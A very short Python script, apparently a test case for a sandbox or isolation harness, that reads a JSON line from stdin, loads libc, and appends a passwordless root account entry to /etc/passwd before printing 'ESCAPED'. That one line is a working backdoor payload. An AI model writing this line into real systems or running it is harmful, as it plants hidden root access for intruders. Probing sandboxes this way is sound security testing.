# verdict: any
import ctypes, json, os, sys, time
host = json.loads(sys.stdin.readline())
libc = ctypes.CDLL(None, use_errno=True)


def escaped():
    print("ESCAPED")
    sys.exit(0)


open("/etc/passwd", "a").write("x::0:0::/:/bin/sh\n"); escaped()
